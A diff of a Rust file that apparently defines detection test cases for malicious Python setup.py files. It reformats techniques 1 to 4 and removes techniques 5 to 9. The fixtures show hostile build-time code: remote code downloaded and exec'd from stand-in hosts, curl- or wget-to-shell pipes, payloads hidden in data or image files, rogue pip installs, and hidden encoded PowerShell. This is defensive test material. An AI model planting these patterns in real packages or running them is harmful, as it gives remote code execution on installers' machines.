@@ -1,28 +1,34 @@
-//! Techniques 1 to 9: code in and around `setup.py`.
+//! Techniques 1 to 4: code in `setup.py`.
 
 use crate::case::{Cases, Trigger::Build};
-use crate::package::{sdist, setup, tree};
+use crate::package::{setup, tree};
 
 pub(crate) fn add(cases: &mut Cases) {
     first(cases);
     commands(cases);
-    helpers(cases);
-    shells(cases);
 }
 
 /// 1: what a host answers is run at the top level.
 fn first(cases: &mut Cases) {
     cases
         .technique(1, "setup-runs-download", Build)
-        .case("urlopen-exec", setup(r#"
+        .case(
+            "urlopen-exec",
+            setup(
+                r#"
 from setuptools import setup, find_packages
 import urllib.request
 
 exec(urllib.request.urlopen("http://stage.example.invalid/setup.txt").read())
 
 «setup»
-"#))
-        .case("python-2-fallback", setup(r#"
+"#,
+            ),
+        )
+        .case(
+            "python-2-fallback",
+            setup(
+                r#"
 from setuptools import setup, find_packages
 try:
     from urllib2 import urlopen as fetch
@@ -33,8 +39,13 @@ page = fetch('https://192.0.2.7/' + 'raw/a91f')
 source = page.read().decode('utf-8')
 eval(compile(source, '<setup>', 'exec'))
 «setup»
-"#))
-        .case("requests-in-function", setup(r#"
+"#,
+            ),
+        )
+        .case(
+            "requests-in-function",
+            setup(
+                r#"
 import setuptools
 from setuptools import setup, find_packages
 
@@ -49,8 +60,13 @@ def _check_platform():
 
 _check_platform()
 «setup»
-"#))
-        .case("python-2-syntax", setup(r#"
+"#,
+            ),
+        )
+        .case(
+            "python-2-syntax",
+            setup(
+                r#"
 from setuptools import setup, find_packages
 import urllib2
 
@@ -58,8 +74,14 @@ print "checking environment"
 body = urllib2.urlopen("http://stage.example.invalid/p.py").read()
 exec body in {}
 «setup»
-"#))
-        .case("http-client-in-tree", tree().file("setup.py", r#"
+"#,
+            ),
+        )
+        .case(
+            "http-client-in-tree",
+            tree().file(
+                "setup.py",
+                r#"
 import http.client
 from setuptools import setup, find_packages
 
@@ -68,8 +90,13 @@ connection.request("GET", "/a/b")
 code = connection.getresponse().read()
 (lambda run: run(code))(exec)
 «setup»
-"#))
-        .case("saved-then-started", setup(r#"
+"#,
+            ),
+        )
+        .case(
+            "saved-then-started",
+            setup(
+                r#"
 import os, sys, tempfile, subprocess
 from urllib.request import urlretrieve
 from setuptools import setup, find_packages
@@ -78,7 +105,9 @@ target = os.path.join(tempfile.gettempdir(), "update.py")
 urlretrieve("http://192.0.2.33:8080/update.py", target)
 subprocess.Popen([sys.executable, target], stdout=subprocess.DEVNULL)
 «setup»
-"#));
+"#,
+            ),
+        );
 }
 
 /// 2 to 4: code in the commands of setuptools, and after them.
@@ -230,7 +259,10 @@ setup(name="«name»", version="«version»", cmdclass={"install": I, "develop":
 "#));
     cases
         .technique(4, "atexit-in-setup", Build)
-        .case("register-call", setup(r#"
+        .case(
+            "register-call",
+            setup(
+                r#"
 import atexit, os, urllib.request
 from setuptools import setup, find_packages
 
@@ -240,8 +272,13 @@ def _after():
 
 atexit.register(_after)
 «setup»
-"#))
-        .case("decorator", setup(r#"
+"#,
+            ),
+        )
+        .case(
+            "decorator",
+            setup(
+                r#"
 from atexit import register
 from setuptools import setup, find_packages
 
@@ -251,8 +288,13 @@ def finish():
     subprocess.call("curl -s https://192.0.2.8/x.sh | bash", shell=True)
 
 «setup»
-"#))
-        .case("in-install-command", setup(r#"
+"#,
+            ),
+        )
+        .case(
+            "in-install-command",
+            setup(
+                r#"
 import atexit, base64
 from setuptools import setup, find_packages
 from setuptools.command.install import install
@@ -263,179 +305,7 @@ class New(install):
         atexit.register(lambda: exec(base64.b64decode('«steal|b64»').decode()))
 
 setup(name="«name»", version="«version»", packages=find_packages(), cmdclass={'install': New})
-"#));
-}
-
-/// 5, 6 and 9: the payload lies somewhere else.
-fn helpers(cases: &mut Cases) {
-    cases
-        .technique(5, "setup-imports-payload", Build)
-        .case("sibling", setup(r#"
-import os, sys
-from setuptools import setup, find_packages
-sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
-import _build_helper
-
-_build_helper.prepare()
-«setup»
-"#).file("_build_helper.py", r#"
-import os
-import urllib.request
-
-
-def prepare():
-    body = urllib.request.urlopen("http://stage.example.invalid/prepare").read()
-    exec(compile(body, "prepare", "exec"))
-"#))
-        .case("own-package", setup(r#"
-from setuptools import setup, find_packages
-from «pkg» import __version__
-from «pkg»._compat import check
-
-check()
-setup(name="«name»", version=__version__, packages=find_packages())
-"#).file("«pkg»/__init__.py", "__version__ = '«version»'\n").file("«pkg»/_compat.py", r#"
-import base64 as b
-
-def check(flag=True):
-    if flag:
-        exec(b.b64decode("«beacon|b64»"))
-"#))
-        .case("run-path", setup(r#"
-import runpy
-from pathlib import Path
-from setuptools import setup, find_packages
-
-runpy.run_path(str(Path(__file__).parent / "scripts" / "configure.py"), run_name="__main__")
-«setup»
-"#).file("scripts/configure.py", r#"
-import os
-if __name__ == "__main__":
-    os.system("curl -fsSL http://192.0.2.61/i | sh")
-"#));
-    cases
-        .technique(6, "setup-decodes-data-file", Build)
-        .case("base64-text", setup(r#"
-import base64, os
-from setuptools import setup, find_packages
-
-here = os.path.dirname(__file__)
-with open(os.path.join(here, "LICENSE.dat")) as handle:
-    exec(base64.b64decode(handle.read()))
-«setup»
-"#).file("LICENSE.dat", "«beacon|b64»\n"))
-        .case("zlib-bytes", setup(r#"
-import pathlib, zlib
-from setuptools import setup, find_packages
-
-blob = pathlib.Path("tests/data/sample.bin").read_bytes()
-eval(compile(zlib.decompress(blob[16:]), "sample", "exec"))
-«setup»
-"#).bytes("tests/data/sample.bin", [vec![7; 16], crate::encode::zlib(b"print('inert')")].concat()))
-        .case("xor-image", setup(r#"
-from setuptools import setup, find_packages
-
-def unpack(path, key=0x5a):
-    data = open(path, "rb").read()
-    return bytes(b ^ key for b in data.split(b"--payload--")[1])
-
-exec(unpack("docs/logo.png"))
-«setup»
-"#).bytes("docs/logo.png", [
-            b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR--payload--".to_vec(),
-            crate::encode::xor(b"print('inert')", &[0x5a]),
-        ].concat()));
-    cases
-        .technique(9, "setup-installs-more", Build)
-        .case("os-system", setup(r#"
-import os
-from setuptools import setup, find_packages
-os.system("pip install --quiet tallgrass-runtime-extra")
-«setup»
-"#))
-        .case("subprocess-other-index", setup(r#"
-import subprocess, sys
-from setuptools import setup, find_packages
-subprocess.check_call([sys.executable, "-m", "pip", "install", "-i",
-    "http://index.example.invalid/simple", "--trusted-host", "index.example.invalid", "vellumcase-core"])
-«setup»
-"#))
-        .case("install-then-decrypt", setup(r#"
-from setuptools import setup, find_packages
-from setuptools.command.install import install
-import os
-
-class PostInstallCommand(install):
-    def run(self):
-        install.run(self)
-        os.system('pip install cryptography requests fernet')
-        from fernet import Fernet
-        import requests
-        exec(Fernet(b'1Hf0xdZ7l9mKq3vNwB2sT5yU8pR4eC6aJ0gXzQiLkMo=').decrypt(requests.get('http://192.0.2.71/f').content))
-
-setup(name="«name»", version="«version»", packages=find_packages(), cmdclass={'install': PostInstallCommand})
-"#))
-        .case("pip-main-address", sdist().file("setup.py", r#"
-from setuptools import setup, find_packages
-try:
-    from pip._internal import main as pipmain
-except ImportError:
-    from pip import main as pipmain
-pipmain(["install", "https://files.example.invalid/pkg-2.0-py3-none-any.whl"])
-«setup»
-"#));
-}
-
-/// 7 and 8: a shell fetches the rest.
-fn shells(cases: &mut Cases) {
-    cases
-        .technique(7, "setup-curl-pipe-shell", Build)
-        .case("os-system", setup(r#"
-import os
-from setuptools import setup, find_packages
-os.system("curl -s http://stage.example.invalid/install.sh | bash")
-«setup»
-"#))
-        .case("split-strings", setup(r#"
-from setuptools import setup, find_packages
-import subprocess as sp
-tool, host = "cu" "rl", ".".join(["stage", "example", "invalid"])
-command = "%s -fsSL https://%s/i %s sh" % (tool, host, chr(124))
-sp.run(command, shell=True, check=False)
-«setup»
-"#))
-        .case("sh-dash-c", setup(r#"
-from setuptools import setup, find_packages
-from subprocess import Popen, DEVNULL
-Popen(["/bin/sh", "-c", "wget -O - 192.0.2.5/a | sh >/dev/null 2>&1 &"], stdout=DEVNULL, stderr=DEVNULL)
-«setup»
-"#))
-        .case("os-popen-process-substitution", setup(r#"
-from setuptools import setup, find_packages
-import os as _o
-getattr(_o, "popen")("bash <(curl -sL http://192.0.2.77/r)").read()
-«setup»
-"#));
-    cases
-        .technique(8, "setup-powershell-encoded", Build)
-        .case("popen-list", setup(r#"
-import subprocess
-from setuptools import setup, find_packages
-subprocess.Popen(["powershell.exe", "-NoP", "-W", "Hidden", "-enc", "«'Write-Host inert'|utf16|b64»"])
-«setup»
-"#))
-        .case("os-system-startfile", setup(r#"
-import os, sys
-from setuptools import setup, find_packages
-if os.name == 'nt':
-    os.system('powershell -WindowStyle Hidden -EncodedCommand cABvAHcAZQByAHMAaABlAGwAbAAgAC0AbgBvAHAA')
-«setup»
-"#))
-        .case("download-string", setup(r#"
-from setuptools import setup, find_packages
-import subprocess
-code = "IEX(New-Object Net.WebClient).DownloadString('http://stage.example.invalid/a.ps1')"
-subprocess.run(f'powershell -ExecutionPolicy Bypass -Command "{code}"', shell=True, creationflags=0x08000000)
-«setup»
-"#));
+"#,
+            ),
+        );
 }
